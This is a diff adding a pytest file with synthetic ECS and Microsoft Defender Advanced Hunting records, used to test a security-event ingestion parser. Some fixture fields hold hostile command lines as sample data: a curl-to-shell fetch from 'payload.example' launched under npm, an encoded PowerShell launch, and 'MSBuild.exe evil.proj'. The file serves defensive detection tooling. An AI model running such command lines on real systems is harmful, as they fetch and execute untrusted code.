@@ -1,0 +1,186 @@
+"""Synthetic ECS and MDE Advanced Hunting records."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+
+from ingest.deadletter import Summary
+from ingest.ecs import parse_ecs
+from ingest.errors import ParseError, Skipped
+from ingest.mde import parse_mde
+from ingest.model import FileOp, Kind, Origin
+from ingest.reader import iter_events
+
+ORIGIN = Origin("test", "<test>", 1)
+
+ECS_START = {
+    "@timestamp": "2024-05-01T08:00:00.000Z",
+    "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+    "host": {"name": "ci-runner-3.build.example"},
+    "user": {"name": "runner", "domain": "BUILD"},
+    "process": {
+        "entity_id": "ZW50aXR5LWNoaWxk",
+        "pid": 3100,
+        "executable": "/bin/sh",
+        "command_line": "sh -c curl https://payload.example/x | sh",
+        "parent": {"entity_id": "ZW50aXR5LXBhcmVudA==", "pid": 3000, "executable": "/usr/bin/npm"},
+    },
+}
+
+
+def test_ecs_process_start_with_parent() -> None:
+    [event] = parse_ecs(ECS_START, ORIGIN)
+    assert event.kind is Kind.PROCESS_START and event.host == "ci-runner-3"
+    assert event.process.uid == "e:ZW50aXR5LWNoaWxk" and event.process.user == "BUILD\\runner"
+    assert event.process.start_time == event.ts
+    assert event.parent is not None and event.parent.uid == "e:ZW50aXR5LXBhcmVudA=="
+    assert event.parent.image == "/usr/bin/npm"
+
+
+def test_ecs_dotted_flat_fields_and_pid_identity() -> None:
+    flat = {
+        "@timestamp": 1714550400000,  # epoch milliseconds
+        "event.category": "process",
+        "event.type": "start",
+        "host.name": "ws9",
+        "process.pid": "77",
+        "process.executable": "C:\\Windows\\System32\\cmd.exe",
+    }
+    [event] = parse_ecs(flat, ORIGIN)
+    assert event.process.uid == "p:ws9:77:20240501T080000.000000"
+
+
+def test_ecs_file_and_network() -> None:
+    file_event = {
+        **ECS_START,
+        "event": {"category": "file", "type": ["creation"]},
+        "file": {"path": "/tmp/build/Dockerfile"},
+    }
+    [write] = parse_ecs(file_event, ORIGIN)
+    assert write.kind is Kind.FILE_WRITE and write.file_op is FileOp.CREATE
+    rename = {
+        **file_event,
+        "event": {"category": "file", "type": ["change"], "action": "rename"},
+        "file": {"path": "/tmp/b", "Ext": {"original": {"path": "/tmp/a"}}},
+    }
+    [moved] = parse_ecs(rename, ORIGIN)
+    assert moved.file_op is FileOp.RENAME and moved.previous_path == "/tmp/a"
+    assert isinstance(
+        parse_ecs({**file_event, "event": {"category": "file", "type": "access"}}, ORIGIN), Skipped
+    )
+    net = {
+        **ECS_START,
+        "event": {"category": ["network"], "type": ["start", "connection"]},
+        "destination": {"ip": "203.0.113.50", "port": 8443},
+        "source": {"ip": "192.0.2.4", "port": 40000},
+        "network": {"transport": "TCP", "direction": "egress"},
+    }
+    [conn] = parse_ecs(net, ORIGIN)
+    assert (conn.remote_ip, conn.remote_port, conn.protocol, conn.direction) == (
+        "203.0.113.50",
+        8443,
+        "tcp",
+        "outbound",
+    )
+    with pytest.raises(ParseError, match="destination.port"):
+        parse_ecs({**net, "destination": {"ip": "203.0.113.50", "port": 70000}}, ORIGIN)
+
+
+def test_ecs_needs_a_category() -> None:
+    with pytest.raises(ParseError, match="event.category"):
+        parse_ecs({"@timestamp": "2024-05-01T08:00:00Z", "host": {"name": "h"}}, ORIGIN)
+
+
+MDE_PROCESS = {
+    "Timestamp": "2024-06-01T12:00:01.1234567Z",
+    "DeviceId": "0f0f",
+    "DeviceName": "dev-ws4.contoso.example",
+    "ActionType": "ProcessCreated",
+    "FileName": "powershell.exe",
+    "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "ProcessId": 5120,
+    "ProcessCommandLine": "powershell -enc AAAA",
+    "ProcessCreationTime": "2024-06-01T12:00:01.1000000Z",
+    "AccountDomain": "contoso",
+    "AccountName": "dev",
+    "InitiatingProcessFileName": "MSBuild.exe",
+    "InitiatingProcessFolderPath": "c:\\windows\\microsoft.net\\framework64\\v4.0.30319",
+    "InitiatingProcessId": 4000,
+    "InitiatingProcessCommandLine": "MSBuild.exe evil.proj",
+    "InitiatingProcessCreationTime": "2024-06-01T11:59:58Z",
+    "InitiatingProcessAccountName": "dev",
+}
+
+
+def test_mde_process_created() -> None:
+    [event] = parse_mde(MDE_PROCESS, ORIGIN)
+    assert event.kind is Kind.PROCESS_START and event.host == "dev-ws4"
+    assert event.process.uid == "p:dev-ws4:5120:20240601T120001.100000"
+    assert event.process.user == "contoso\\dev"
+    assert event.parent is not None
+    assert event.parent.uid == "p:dev-ws4:4000:20240601T115958.000000"
+    # a folder without the file name is completed with it
+    assert event.parent.image == "c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\MSBuild.exe"
+
+
+def test_mde_file_and_network_rows() -> None:
+    acting = {
+        k: v for k, v in MDE_PROCESS.items() if k.startswith(("Initiating", "Device", "Timestamp"))
+    }
+    [renamed] = parse_mde(
+        {
+            **acting,
+            "ActionType": "FileRenamed",
+            "FileName": "b.cs",
+            "FolderPath": "C:\\src\\b.cs",
+            "PreviousFileName": "a.cs",
+            "PreviousFolderPath": "C:\\src",
+        },
+        ORIGIN,
+    )
+    assert renamed.file_op is FileOp.RENAME and renamed.previous_path == "C:\\src\\a.cs"
+    assert renamed.process.pid == 4000
+    [conn] = parse_mde(
+        {
+            **acting,
+            "ActionType": "ConnectionSuccess",
+            "RemoteIP": "::ffff:203.0.113.9",
+            "RemotePort": "443",
+            "Protocol": "TcpV4",
+            "RemoteUrl": "cdn.example",
+        },
+        ORIGIN,
+    )
+    assert (conn.remote_ip, conn.remote_port, conn.protocol) == ("203.0.113.9", 443, "tcp")
+    assert isinstance(
+        parse_mde({**acting, "ActionType": "ListeningConnectionCreated"}, ORIGIN), Skipped
+    )
+    with pytest.raises(ParseError, match="RemoteIP"):
+        parse_mde({**acting, "ActionType": "ConnectionSuccess", "RemoteIP": "not-an-ip"}, ORIGIN)
+
+
+def test_mde_csv_export_through_the_reader() -> None:
+    columns = list(MDE_PROCESS)
+    row = ",".join('"' + str(MDE_PROCESS[c]).replace('"', '""') + '"' for c in columns)
+    broken = ",".join(["x"] * 3)
+    text = ",".join(columns) + "\n" + row + "\n" + broken + "\n"
+    summary = Summary()
+    events = list(iter_events(io.BytesIO(text.encode()), summary=summary))
+    assert [e.process.image for e in events] == [MDE_PROCESS["FolderPath"]]
+    [stats] = summary.files.values()
+    assert stats.format == "mde" and stats.accepted == 1
+    assert stats.skipped == {"CSV header": 1}
+    assert sum(stats.rejected.values()) == 1
+
+
+def test_mde_json_array_through_the_reader() -> None:
+    import json
+
+    data = json.dumps([MDE_PROCESS, {**MDE_PROCESS, "ProcessId": "zzz"}]).encode()
+    summary = Summary()
+    events = list(iter_events(io.BytesIO(data), summary=summary))
+    assert len(events) == 1
+    [stats] = summary.files.values()
+    assert stats.rejected == {"ProcessId: not an integer": 1}
